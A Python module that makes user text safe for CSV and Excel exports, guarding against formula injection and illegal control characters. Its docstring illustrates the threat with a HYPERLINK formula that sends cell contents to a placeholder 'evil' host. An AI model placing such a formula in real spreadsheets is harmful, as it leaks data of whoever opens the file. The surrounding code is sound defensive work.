"""Text that users typed, made safe to put into the CSV and Excel files we export.

A unit's report text reaches the office's ledger download. Two things can go wrong:

- Formula injection (OWASP "CSV injection"): a cell starting with `=`, `+`, `-` or `@`
  is run by Excel as a formula (`=HYPERLINK("http://evil/?"&A1, "点击")` sends data away).
  openpyxl even writes a string starting with `=` as a real formula. In .xlsx we store
  such cells as plain text (the text itself is kept, so a re-imported ledger reads back
  what was written); in CSV, which has no cell types, we prefix a `'` as OWASP advises.
- Control characters (U+0001…U+001F except tab and newlines) are not allowed in .xlsx
  XML: openpyxl raises on them and the whole download failed with a 500. They are dropped.
"""

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_cell_text(text: str) -> str:
    """`text` for a CSV cell: a leading formula character is neutralised with a `'`."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def xlsx_cell_value(value):
    """`value` for an openpyxl cell: strings lose the characters .xlsx cannot hold."""
    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def xlsx_append(sheet, values) -> int | None:
    """Append a row of `values`, every string stored as text and never as a formula.

    Returns the new row's number (None for an empty row). The cells are made here, not
    looked up after appending: `sheet.max_row` scans every cell of the sheet, which made
    a 28,000-row bulletin take minutes.
    """
    cells = []
    for value in values:
        cell = Cell(sheet, value=xlsx_cell_value(value))
        if cell.data_type == "f":  # openpyxl took a user's "=…" for a formula
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)
    return cells[0].row if cells else None
